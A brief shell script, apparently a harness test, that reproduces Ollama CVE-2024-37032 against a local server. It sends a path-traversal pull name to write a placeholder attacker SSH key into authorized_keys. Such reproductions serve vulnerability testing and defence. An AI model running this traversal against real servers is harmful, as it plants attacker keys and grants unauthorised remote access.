# Ollama CVE-2024-37032: a model pull with ../ in the digest writes outside
# the model store, here into the account's authorized_keys.
. "$LIB/common.sh"
start_server
mkdir -p "$HOME/.ssh"
curl -s --max-time 30 --data-binary 'ssh-ed25519 AAAAfake attacker' \
    "http://127.0.0.1:$SERVER_PORT/pull?name=../../home/.ssh/authorized_keys" > /dev/null
stop_server
